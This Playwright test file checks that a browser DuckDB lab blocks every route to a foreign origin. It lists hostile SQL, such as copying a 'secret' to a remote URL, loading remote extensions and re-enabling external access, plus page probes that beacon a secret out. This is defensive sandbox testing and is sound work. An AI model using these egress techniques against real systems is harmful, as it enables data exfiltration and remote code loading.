import type { Page } from '@playwright/test';
import { expect, test } from './engine-test.ts';

/** SQL that would reach an address, by every way DuckDB has. */
const hostileSql = (origin: string): readonly string[] => [
  `select * from read_csv('${origin}/sql/read_csv.csv')`,
  `select * from read_text('${origin}/sql/read_text.txt')`,
  `select * from read_blob('${origin}/sql/read_blob.bin')`,
  `from '${origin}/sql/name.csv'`,
  `select * from glob('${origin}/sql/*')`,
  `select * from sniff_csv('${origin}/sql/sniff.csv')`,
  `copy (select 'secret') to '${origin}/sql/copy.csv'`,
  `create table taken as select 1; copy taken from '${origin}/sql/copy-from.csv'`,
  `attach '${origin}/sql/attach.db'`,
  `import database '${origin}/sql/import'`,
  `export database '${origin}/sql/export'`,
  `install httpfs from '${origin}/sql/install'; load httpfs`,
  `set custom_extension_repository = '${origin}/sql/repository'; load spatial`,
  `load '${origin}/sql/load.duckdb_extension.wasm'`,
  `set enable_external_access = true; from '${origin}/sql/unlocked.csv'`,
  `set allowed_paths = ['${origin}/sql/allowed.csv']; from '${origin}/sql/allowed.csv'`,
  `select * from parquet_scan('${origin}/sql/scan.parquet')`,
  `select * from read_json('${origin}/sql/read.json')`
];

/** Every way a page has to reach an address by itself. */
const probePage = (page: Page, origin: string) =>
  page.evaluate(async (foreign) => {
    const at = (way: string) => `${foreign}/page/${way}`;
    const added = (name: string, attributes: Readonly<Record<string, string>>) => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
      return new Promise((resolve) => {
        element.addEventListener('load', resolve);
        element.addEventListener('error', resolve);
      });
    };
    const frame = document.createElement('iframe');
    frame.src = at('iframe');
    document.body.append(frame);
    navigator.sendBeacon(at('beacon'), 'secret');
    await Promise.allSettled([
      fetch(at('fetch'), { mode: 'no-cors' }),
      added('img', { src: at('img') }),
      added('script', { src: at('script') }),
      added('link', { rel: 'stylesheet', href: at('stylesheet') }),
      new Promise((resolve) =>
        new WebSocket(at('socket').replace('http', 'ws')).addEventListener('error', resolve)
      )
    ]);
  }, origin);

const waysOf = (hits: readonly string[]): readonly string[] =>
  [...new Set(hits.map((hit) => hit.split(' ')[1] ?? hit))].toSorted();

test('nothing reaches another origin by SQL, from a worker or from the page', async ({
  page,
  openLab,
  foreign
}) => {
  await openLab();
  const seen = await page.evaluate(
    async ({ statements, origin }) => {
      const opened = await window.lab.openEngine();
      if (!opened.ok) throw new Error(opened.error.message);
      const answers: unknown[] = [];
      for (const statement of statements) answers.push(await opened.value.exec(statement));
      const writer = window.lab.openWriter('hostile');
      await writer.opened;
      for (const statement of statements) answers.push(await writer.call('exec', statement));
      await writer.call('abandon');
      return {
        answers,
        stillThere: await opened.value.table('select 1 as one', 1),
        outcomes: await window.lab.probeWorker(origin)
      };
    },
    { statements: hostileSql(foreign.address), origin: `${foreign.address}/worker` }
  );
  await probePage(page, foreign.address);
  for (const answer of seen.answers) expect(answer).toMatchObject({ ok: false, error: { kind: 'sql' } });
  expect(seen.stillThere).toMatchObject({ ok: true });
  expect(Object.keys(seen.outcomes).length).toBeGreaterThan(10);
  expect(waysOf(foreign.hits)).toEqual([]);
});

test('control: without the locks the same attempts arrive', async ({ page, openLab, foreign }) => {
  await openLab('/some/shop/unlocked.html');
  await page.evaluate(
    async ({ statements, origin }) => {
      await window.unlocked.run(statements);
      await window.unlocked.probeWorker(origin);
    },
    { statements: hostileSql(foreign.address).slice(0, 3), origin: `${foreign.address}/worker` }
  );
  await probePage(page, foreign.address);
  const ways = waysOf(foreign.hits);
  expect(ways).toContain('/sql/read_csv.csv');
  expect(ways).toEqual(
    expect.arrayContaining(
      ['fetch', 'img', 'script', 'stylesheet', 'iframe', 'beacon', 'socket'].map((way) => `/page/${way}`)
    )
  );
  expect(ways).toEqual(
    expect.arrayContaining(
      ['fetch', 'XMLHttpRequest', 'importScripts', 'WebSocket', 'EventSource', 'Cache'].map(
        (way) => `/worker/${way}`
      )
    )
  );
});
